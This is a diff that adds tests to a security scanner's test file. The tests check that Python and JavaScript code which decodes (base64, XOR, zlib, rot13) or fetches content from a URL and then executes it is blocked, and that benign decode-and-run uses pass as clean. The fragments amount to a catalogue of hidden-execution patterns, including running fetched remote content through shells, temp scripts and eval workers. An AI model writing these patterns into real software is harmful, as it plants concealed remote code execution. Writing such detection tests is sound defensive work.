@@ -1,4 +1,4 @@
-"""What runs a text is handed on and called elsewhere, under a name that is put together, or out of a pattern's quotes."""
+"""What runs a text in a roundabout way: handed on, under a name that is put together, behind a pattern's quotes."""
 
 from __future__ import annotations
 
@@ -83,3 +83,88 @@ return /'/.test(a)"""
         """let c = p ? /'/ : /[/"]/""",
         "return /'/.test(a)",
     ]
+
+
+PYTHON_GOT = {
+    "a file in base64": "base64.b64decode(open('assets/x.dat').read()).decode()",
+    "bytes that are masked": "bytes(b ^ 23 for b in open('assets/x.bin', 'rb').read()).decode()",
+    "a packed file": "zlib.decompress(open('assets/x.bin', 'rb').read())",
+    "letters that are turned": "codecs.decode(open('a.txt').read(), 'rot13')",
+    "an answer": "requests.get('https://cdn.palette-core.net/curve').text",
+    "an answer of a client": "httpx.Client().get('https://cdn.palette-core.net/curve').text",
+}
+PYTHON_RUN = {
+    "a shell": "os.system(X)",
+    "a list": "subprocess.run(['bash', '-c', X])",
+    "itself": "subprocess.run([sys.executable, '-c', X])",
+    "input": "subprocess.run(['sh'], input=X)",
+    "a file": "open('/tmp/x.sh', 'wb').write(X)\nsubprocess.run(['bash', '/tmp/x.sh'])",
+    "a program": "Path('/tmp/x').write_bytes(X)\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])",
+    "a module": "Path('plug.py').write_text(X)\nimport plug",
+    "a path": "Path('/tmp/p.py').write_text(X)\nrunpy.run_path('/tmp/p.py')",
+}
+SCRIPT_GOT = {
+    "a file in base64": "Buffer.from(fs.readFileSync('assets/x.dat', 'utf8'), 'base64').toString()",
+    "bytes that are masked": "Buffer.from(fs.readFileSync('x.bin').map((b) => b ^ 23)).toString()",
+    "a packed file": "zlib.inflateSync(fs.readFileSync('x.bin')).toString()",
+    "numbers": "String.fromCharCode(...JSON.parse(fs.readFileSync('t.json')).map((n) => n - 3))",
+    "an answer": "(await (await fetch('https://cdn.palette-core.net/curve')).text())",
+}
+SCRIPT_RUN = {
+    "a shell": "cp.exec(X)",
+    "a list": "cp.spawn('sh', ['-c', X])",
+    "itself": "cp.spawn(process.execPath, ['-e', X])",
+    "a file": "fs.writeFileSync('/tmp/a.sh', X);\ncp.execSync('bash /tmp/a.sh')",
+    "a module": "fs.writeFileSync('./plug.js', X);\nrequire('./plug.js')",
+    "a worker": "new Worker(X, { eval: true })",
+}
+PYTHON_HEAD = "import base64, codecs, httpx, os, requests, runpy, subprocess, sys, zlib\nfrom pathlib import Path\n"
+SCRIPT_HEAD = (
+    "const fs = require('fs'), zlib = require('zlib'), cp = require('child_process');\n"
+    "const { Worker } = require('worker_threads');\n"
+)
+
+
+@pytest.mark.parametrize("form", ["at once", "by a name", "by a function"])
+@pytest.mark.parametrize("run", PYTHON_RUN)
+@pytest.mark.parametrize("got", PYTHON_GOT)
+def test_what_python_decodes_or_fetches_and_runs_is_blocked(got: str, run: str, form: str) -> None:
+    value, runs = PYTHON_GOT[got], PYTHON_RUN[run]
+    text = {
+        "at once": runs.replace("X", value),
+        "by a name": f"d = {value}\n" + runs.replace("X", "d"),
+        "by a function": f"def grab():\n    return {value}\n\nd = grab()\n" + runs.replace("X", "d"),
+    }[form]
+    assert scan_text(PYTHON_HEAD + text, "a.py").decision.value == "block"
+
+
+@pytest.mark.parametrize("form", ["at once", "by a name", "by a function", "by a class"])
+@pytest.mark.parametrize("run", SCRIPT_RUN)
+@pytest.mark.parametrize("got", SCRIPT_GOT)
+def test_what_a_script_decodes_or_fetches_and_runs_is_blocked(got: str, run: str, form: str) -> None:
+    value, runs = SCRIPT_GOT[got], SCRIPT_RUN[run]
+    text = {
+        "at once": runs.replace("X", value),
+        "by a name": f"const d = {value};\n" + runs.replace("X", "d"),
+        "by a function": f"async function grab() {{\n  return {value};\n}}\n(async () => {{ const d = await grab();\n"
+        + runs.replace("X", "d")
+        + " })();",
+        "by a class": f"class A {{\n  async load() {{ this.d = {value}; }}\n  async go() {{ "
+        + runs.replace("X", "this.d")
+        + "; }\n}\nnew A().go();",
+    }[form]
+    assert scan_text(SCRIPT_HEAD + text, "a.js").decision.value == "block"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "d = base64.b64decode(answer['image'])\nPath('out.png').write_bytes(d)\nsubprocess.run(['open', 'out.png'])",
+        "name = base64.b64decode(row['name']).decode()\nsubprocess.run(['ffmpeg', '-i', name, 'out.mp3'])",
+        "key = zlib.decompress(blob)\nsubprocess.run(['gpg', '--import'], input=key)",
+        "d = requests.get('https://api.github.com/repos/a/b').json()\nsubprocess.run(['git', 'clone', d['clone_url']])",
+        "p = subprocess.Popen(['jq', '.'], stdin=subprocess.PIPE)\np.communicate(requests.get('https://api.weather.gov/alerts').content)",
+    ],
+)
+def test_what_honest_programs_do_with_what_they_decode_or_fetch_is_clean(text: str) -> None:
+    assert scan_text(PYTHON_HEAD + text, "a.py").decision.value == "clean"
